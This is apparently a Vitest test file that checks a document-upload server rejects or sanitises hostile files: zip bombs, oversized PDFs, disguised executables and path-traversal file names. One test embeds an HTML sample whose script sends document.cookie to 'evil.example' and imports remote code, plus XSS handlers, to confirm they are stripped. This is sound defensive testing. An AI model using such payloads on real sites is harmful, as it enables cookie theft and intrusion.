import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDocx, buildPdf, buildZipBomb } from '../fixtures/build.js';
import { type Account, startTestServer, type TestServer } from '../support/server.js';
import { expectJsonError, expectLogsClean, rowCounts } from './support.js';

/**
 * Hostile uploads: each gets the right 4xx (or, for HTML with scripts, is stored without them), stores nothing
 * when refused, and costs bounded memory: the server runs in this process, so its heap is sampled during the
 * upload and compared with the heap before it.
 */

const HEAP_BUDGET_BYTES = 48 * 1024 * 1024;

let server: TestServer;
let account: Account;
const secrets = new Set<string>();

beforeAll(async () => {
  server = await startTestServer();
  account = await server.signUp();
  for (const s of [account.password, account.accessToken, account.refreshToken]) secrets.add(s);
});
afterAll(async () => {
  if (server) expectLogsClean(server.logs, secrets);
  await server?.stop();
});

/** Uploads while sampling the heap; returns the response and the peak growth over the heap before. */
async function measuredUpload(name: string, content: Buffer | string, type?: string) {
  const start = process.memoryUsage().heapUsed;
  let peak = start;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().heapUsed);
  }, 2);
  try {
    const res = await server.upload(account.accessToken, name, content, type);
    peak = Math.max(peak, process.memoryUsage().heapUsed);
    return { res, growth: peak - start };
  } finally {
    clearInterval(sampler);
  }
}

const EXE = Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff, 0x00, 0x00]);

describe('hostile files', () => {
  const refused: Array<[string, string, () => Buffer | string, number, RegExp]> = [
    [
      'a DOCX zip bomb (64 MiB from a few KB)',
      'bomb.docx',
      () => buildZipBomb(64),
      422,
      /expands|limit|ratio/i,
    ],
    [
      'a PDF claiming 20,000 pages',
      'pages.pdf',
      () => buildPdf(['Page text.'], { pageCount: 20_000 }),
      422,
      /pages/i,
    ],
    ['a zero-byte file', 'empty.md', () => Buffer.alloc(0), 422, /empty/i],
    ['a program named .pdf', 'invoice.pdf', () => EXE, 415, /supported/i],
    ['a program named .txt', 'notes.txt', () => EXE, 415, /supported/i],
    ['a zip that is not a DOCX', 'archive.docx', () => buildZipBomb(1), 422, /DOCX|document|read/i],
  ];
  for (const [what, name, build, status, reason] of refused) {
    it(`${what}: ${status}, nothing stored, bounded memory`, async () => {
      const before = await rowCounts(server.db.pool);
      const { res, growth } = await measuredUpload(name, build());
      expectJsonError(res, what);
      expect(res.status, res.text).toBe(status);
      expect(res.body.message).toMatch(reason);
      expect(await rowCounts(server.db.pool)).toEqual(before);
      expect(growth, `heap grew by ${Math.round(growth / 1024 / 1024)} MB`).toBeLessThan(HEAP_BUDGET_BYTES);
    });
  }

  it('a file with the wrong extension is judged by its bytes, never parsed as what its name claims', async () => {
    const res = await server.upload(
      account.accessToken,
      'report.docx',
      buildPdf(['Quarterly report for the fleet.']),
    );
    expect(res.status, res.text).toBe(202);
    expect(res.body.document).toMatchObject({
      name: 'report.docx',
      kind: 'pdf',
      mime_type: 'application/pdf',
    });
    expect((await server.waitForDocument(account.accessToken, res.body.document.id)).status).toBe('ready');
  });

  it('HTML with scripts, styles and handlers is stored as its visible text only', async () => {
    const html = `<!doctype html><html><head><title>Tides</title><style>body{color:red}</style>
      <script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
      <body onload="alert('pwned')"><h1>Tide table</h1><p>High tide is at noon on Sundays.</p>
      <img src=x onerror="alert('xss')"><script type="module">import('https://evil.example/x.js')</script></body></html>`;
    const { res } = await measuredUpload('tides.html', html, 'text/html');
    expect(res.status, res.text).toBe(202);
    const doc = await server.waitForDocument(account.accessToken, res.body.document.id);
    expect(doc.status).toBe('ready');
    const { rows } = await server.db.pool.query<{ content: string }>(
      'SELECT content FROM chunks WHERE document_id = $1',
      [doc.id],
    );
    const stored = rows.map((r) => r.content).join('\n');
    expect(stored).toContain('High tide is at noon on Sundays.');
    for (const hostile of ['evil.example', 'document.cookie', 'alert(', 'onerror', 'color:red', '<script'])
      expect(stored).not.toContain(hostile);
  });

  it('path traversal and control characters in file names are stripped from the stored name', async () => {
    const names: Array<[string, string]> = [
      ['../../../etc/passwd.md', 'passwd.md'],
      ['..\\..\\windows\\system32\\boot.md', 'boot.md'],
      ['re\u0000port\u0007\u001b[31m.md', 'report[31m.md'],
      ['invoice\u202efdp.md', 'invoicefdp.md'],
      ['tab\there.md', 'tab here.md'],
      ['....md', 'md'],
    ];
    for (const [i, [raw, expected]] of names.entries()) {
      const res = await server.upload(
        account.accessToken,
        raw,
        `# Name ${i}\n\nA distinct body number ${i} for ${expected}.`,
      );
      expect(res.status, `${JSON.stringify(raw)}: ${res.text}`).toBe(202);
      expect(res.body.document.name, JSON.stringify(raw)).toBe(expected);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
      expect(res.body.document.name).not.toMatch(/[/\\\u0000-\u001f\u202e]/);
    }
  });

  it('a DOCX with a real body but a bomb beside it is refused whole', async () => {
    const before = await rowCounts(server.db.pool);
    const honest = buildDocx([{ text: 'Minutes of the meeting.' }]);
    // The honest document works, so the refusal below is about the bomb.
    const ok = await server.upload(account.accessToken, 'minutes.docx', honest);
    expect(ok.status, ok.text).toBe(202);
    await server.waitForDocument(account.accessToken, ok.body.document.id);
    const mid = await rowCounts(server.db.pool);
    expect(mid.documents).toBe(before.documents + 1);
    const { res } = await measuredUpload('minutes-bomb.docx', buildZipBomb(48));
    expect(res.status).toBe(422);
    expect(await rowCounts(server.db.pool)).toEqual(mid);
  });
});
